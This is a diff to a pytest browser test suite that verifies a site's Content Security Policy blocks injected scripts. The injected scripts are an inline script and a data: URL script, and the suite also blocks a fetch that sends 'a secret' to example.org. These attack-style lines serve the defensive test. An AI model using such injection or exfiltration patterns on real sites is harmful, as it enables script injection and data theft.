@@ -65,27 +65,22 @@ def test_each_page_has_a_strict_policy(site):
         assert all(re.fullmatch(own, source) for source in sources), page
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "addition.textContent = 'window.ran = true'",
-        "addition.src = 'data:text/javascript,window.ran = true'",
-    ],
-)
+@pytest.mark.parametrize("attempt", ["textContent = '", "src = 'data:text/javascript,"])
 def test_the_policy_stops_a_script_from_elsewhere(tab, address, attempt):
     tab.goto(f"{address}book/index.html")
-    tab.evaluate(
-        f"""async () => {{
+    first = tab.evaluate(
+        f"""() => new Promise(resolve => {{
+          window.tell = resolve;
+          addEventListener("securitypolicyviolation", () => tell("stopped"));
           const addition = document.createElement("script");
-          {attempt};
+          addition.{attempt}tell("it ran")';
           document.head.append(addition);
-          await new Promise(resolve => setTimeout(resolve, 100));
-        }}"""
+        }})"""
     )
-    assert not tab.evaluate("window.ran")
+    assert first == "stopped"
 
 
 def test_the_policy_stops_what_would_be_sent_elsewhere(tab, address):
     tab.goto(f"{address}book/index.html")
-    with tab.expect_console_message(lambda m: "Content Security Policy" in m.text, timeout=5000):
+    with tab.expect_console_message(lambda m: "Content Security Policy" in m.text):
         tab.evaluate("fetch('https://example.org/?what=a+secret').catch(() => {})")
